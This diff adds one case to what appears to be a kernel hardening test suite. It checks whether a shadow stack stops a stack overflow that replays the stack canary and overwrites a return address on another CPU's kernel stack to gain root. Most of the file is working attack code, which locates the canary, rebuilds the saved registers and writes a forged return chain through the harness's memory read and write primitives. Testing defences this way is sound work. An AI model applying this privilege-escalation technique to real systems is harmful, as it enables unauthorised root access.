@@ -1,0 +1,103 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * What: While a function with an array on its stack runs on another CPU, the program writes from
+ * the array's end upwards without a gap: the canary as it was, the saved registers as they were,
+ * then a return address of its own and all that the way to root needs.
+ * Stops it: A function returns only to a place that calls it.
+ * Without: The function finds its canary sound and returns where the program wants.
+ */
+#include "forged_chain.h"
+
+ATTACK("shadow_stack", "replayed_canary", "shadow_stack: return address changed",
+       "While a function with an array on its stack runs on another CPU, the program "
+       "overflows the array upwards without a gap: the canary as it was, then a return "
+       "address of its own.",
+       "A function returns only to a place that calls it, whether its canary is sound or "
+       "not.",
+       "The function finds its canary sound, returns where the program wants, and the "
+       "program is root.");
+
+#define LONG_READ (24l << 20)
+#define AREA_FLAGS (MAP_PRIVATE | MAP_ANONYMOUS)
+
+static bool control(void)
+{
+	return is_ordinary();
+}
+
+/* Reads of random bytes: a loop in the kernel around an array of 256 bytes. */
+static void read_until_root(void)
+{
+	const long area = call6(__NR_mmap, 0, LONG_READ, PROT_READ | PROT_WRITE, AREA_FLAGS, -1, 0);
+	const long file = call3(__NR_open, (long)"/dev/urandom", O_RDONLY, 0);
+
+	(void)own_cpu(1);
+	do
+		call3(__NR_read, file, area, LONG_READ);
+	while (call0(__NR_geteuid) != 0);
+	leave(reads_prize() ? 1 : 0);
+}
+
+/*
+ * The first canary from the stack's end downwards that has a saved frame pointer and a return
+ * address into file_read() above it; its place, or 0.
+ */
+static uint64_t find_canary(uint64_t top, uint64_t canary)
+{
+	const uint64_t caller = symbol("file_read");
+
+	for (uint64_t at = top - FRAME_SIZE; at > top - KERNEL_STACK_SIZE + 8; at -= 8) {
+		if (peek(at) != canary)
+			continue;
+		for (uint64_t above = at + 8; above < at + 80; above += 8)
+			if (peek(above) - caller < 1024 && peek(above - 8) - at < 256)
+				return at;
+	}
+	return 0;
+}
+
+static bool overflow(uint64_t child, uint64_t top)
+{
+	const uint64_t canary = peek(child + member("task.arch.stack_canary"));
+	const uint64_t start = find_canary(top, canary), caller = symbol("file_read");
+	uint64_t words[16 + CHAIN_SIZE / 8], slot;
+	unsigned int count = 0;
+
+	if (!start)
+		return false;
+	for (slot = start; peek(slot) - caller >= 1024; slot += 8)
+		words[count++] = peek(slot);
+	if (slot + CHAIN_SIZE > top - FRAME_SIZE)
+		return false;
+	make_chain(words + count, slot, child, top);
+	count += CHAIN_SIZE / 8;
+	for (unsigned int i = 0; i < count; i++)
+		poke(start + 8 * i, words[i]);
+	return true;
+}
+
+static bool fire(void)
+{
+	const uint64_t task = own_task();
+	const long id = fork_program();
+	uint64_t child, top;
+	int status;
+
+	if (id == 0)
+		read_until_root();
+	(void)own_cpu(0);
+	child = child_task(task, id);
+	top = peek(child + member("task.stack_top"));
+	do
+		sleep_milliseconds(20);
+	while (!overflow(child, top));
+	status = wait_program(id);
+	if ((status & 0x7f) == SIGKILL)
+		call2(__NR_kill, call0(__NR_getpid), SIGKILL);
+	return status >> 8 == 1;
+}
+
+static void victim(void)
+{
+	victim_waits();
+}
